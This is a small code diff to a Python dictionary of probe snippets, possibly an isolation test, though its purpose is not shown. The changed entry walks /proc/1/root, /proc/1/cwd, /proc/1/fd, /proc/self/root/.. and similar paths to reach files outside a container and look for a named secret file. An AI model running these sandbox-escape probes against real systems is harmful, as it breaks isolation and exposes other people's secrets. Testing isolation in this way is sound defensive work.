@@ -57,8 +57,8 @@ found = subprocess.run(["grep", "-rhsoE", "--binary-files=text", "--exclude-dir=
 print(found.stdout)
 """,
     "roads out by the first process": """
-for place in ("1/root", "1/cwd", "1/fd", "self/root/..", "1/task/1/root"):
-    path = "/proc/" + place
+roads = {"1": ("root", "cwd", "fd"), "self": ("root/..",), "1/task/1": ("root",)}
+for path in [f"/proc/{who}/{road}" for who in roads for road in roads[who]]:
     for name in ("", "/..", "/../..", given["secret"]): show(path + name)
     quietly(lambda: [show(f"{path}/{name}") for name in os.listdir(path)])
 """,
